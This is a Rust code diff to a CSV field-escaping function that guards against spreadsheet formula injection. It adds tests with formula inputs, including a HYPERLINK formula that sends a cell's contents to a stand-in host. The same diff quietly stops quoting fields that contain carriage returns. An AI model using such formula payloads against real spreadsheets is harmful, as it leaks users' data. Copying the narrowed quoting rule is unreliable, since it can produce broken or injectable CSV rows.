@@ -95,7 +95,7 @@ fn is_unprintable(c: char) -> bool {
 pub fn csv_field(text: &str) -> String {
     let is_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
     let text = &if is_formula { format!("'{text}") } else { text.to_owned() };
-    if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
+    if text.contains([',', '"', '\n']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
 }
 
 #[cfg(test)]
@@ -115,6 +115,18 @@ mod tests {
         for written in ["ộ", "e\u{302}\u{323}", "กี่", "हिन्दी", "בְּרֵאשִׁ֖ית", "ཧཀྵྨལཝརཡཾ"]
         {
             assert_eq!(printable(written), written);
+        }
+    }
+
+    #[test]
+    fn a_name_is_not_a_formula_in_a_spreadsheet() {
+        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"] {
+            assert_eq!(csv_field(formula), format!("'{formula}"));
+        }
+        let link = "=HYPERLINK(\"http://example.org/\"&A1,\"x\")";
+        assert_eq!(csv_field(link), "\"'=HYPERLINK(\"\"http://example.org/\"\"&A1,\"\"x\"\")\"");
+        for name in ["Ann", "a-b", "'quoted", "1=1"] {
+            assert_eq!(csv_field(name), name);
         }
     }
 }
